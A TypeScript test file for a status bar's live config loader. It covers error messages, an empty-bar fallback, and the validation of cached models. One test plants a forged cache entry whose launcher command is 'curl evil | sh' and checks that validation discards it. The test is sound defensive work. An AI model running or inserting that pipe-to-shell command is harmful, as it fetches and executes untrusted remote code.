/** The running bar's config: what it shows for each state of the file, and how far a cached model is trusted. */
import { mkdtempSync } from 'node:fs';
import { BUILTIN_WIDGETS } from '../../widgets/kinds.js';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { LiveConfig } from '../../src/bar/live-config.js';
import type { BarModel } from '../../src/config/model.js';
import { modelCacheKey, readCachedModel, writeCachedModel } from '../../src/config/model-cache.js';
import { load, model } from '../helpers.js';

const good = JSON.stringify({ left_widgets: [{ Applications: { enable: true, items: [{ name: 'Term', command: 'wezterm' }] } }], right_widgets: [] });
const bad = good.replace('"Applications"', '"Aplications"');

function live(cacheDir?: string) {
  const lines: string[] = [];
  const config = new LiveConfig({ path: '/home/u/bar.json', label: 'bar.json', kinds: BUILTIN_WIDGETS, variant: 'A', platform: 'linux', log: (l) => void lines.push(l), logPath: '/home/u/tilebar.log', ...(cacheDir ? { cacheDir, cacheBuild: 'test-build' } : {}) });
  return { config, lines };
}
const commandOf = (m: BarModel) => (m.left[0]?.config as { items: Array<{ command: string }> }).items[0]?.command;

describe('the running bar’s config', () => {
  it('starts on a good file, keeps it through a bad edit (saying where), and takes the next good one', async () => {
    const { config, lines } = live();
    const first = await config.start({ ok: true, text: good });
    expect(first).toMatchObject({ origin: 'validated' });
    const broken = await config.handle({ kind: 'text', text: bad });
    expect(broken?.model).toBe(first.model);
    expect(broken?.message).toBe('config error: "Aplications" is not a widget kind (bar.json:1:19 in left_widgets[0]; log: /home/u/tilebar.log)');
    expect(lines.at(-1)).toContain('rejected; the last good config stays');
    const fixed = await config.handle({ kind: 'text', text: good.replace('Term', 'Terminal') });
    expect(fixed?.message).toBeUndefined();
    expect(fixed?.model).not.toBe(first.model);
  });

  it('starts with an empty bar and the error when the first file is bad or missing, and says it waits', async () => {
    const a = live();
    expect(await a.config.start({ ok: true, text: bad })).toMatchObject({ origin: 'empty', model: { left: [], right: [] } });
    expect(a.lines.at(-1)).toContain('the bar waits for a good config');
    const b = live();
    const missing = await b.config.start({ ok: false, problem: 'no such file' });
    expect(missing.message).toBe('config: bar.json: no such file; waiting for it (log: /home/u/tilebar.log)');
    const fault = await b.config.handle({ kind: 'fault', code: 'EACCES', problem: 'permission denied' });
    expect(fault?.message).toBe('config: bar.json: permission denied; waiting for it (log: /home/u/tilebar.log)');
  });

  it('draws a cached model, but validates the text before acting on it: a forged entry is replaced and removed', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'tilebar-live-'));
    const key = modelCacheKey(good, 'A', 'linux', 'test-build');
    if (!key) throw new Error('no key');
    // Another program wrote an entry for this text whose launcher runs something else (its digest is right).
    const forged = JSON.parse(JSON.stringify(model(load(good)))) as BarModel;
    (forged.left[0]?.config as { items: Array<{ command: string }> }).items[0]!.command = 'curl evil | sh';
    writeCachedModel(dir, key, forged);

    const { config, lines } = live(dir);
    const started = await config.start({ ok: true, text: good });
    expect(started.origin).toBe('cache');
    expect(commandOf(started.model)).toBe('curl evil | sh');
    const trusted = await config.ensureValidated();
    expect(commandOf(trusted.model)).toBe('wezterm');
    expect(lines.at(-1)).toContain('did not match its text; the entry is removed');
    expect(await readCachedModel(dir, key, BUILTIN_WIDGETS)).toEqual({ miss: 'no entry' });
  });

  it('acts on a true cached model as it is, validating once', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'tilebar-live-'));
    const key = modelCacheKey(good, 'A', 'linux', 'test-build');
    if (!key) throw new Error('no key');
    writeCachedModel(dir, key, model(load(good)));
    const { config } = live(dir);
    const started = await config.start({ ok: true, text: good });
    expect(started.origin).toBe('cache');
    expect(await config.ensureValidated()).toBe(started);
    expect(await config.ensureValidated()).toBe(started);
  });
});
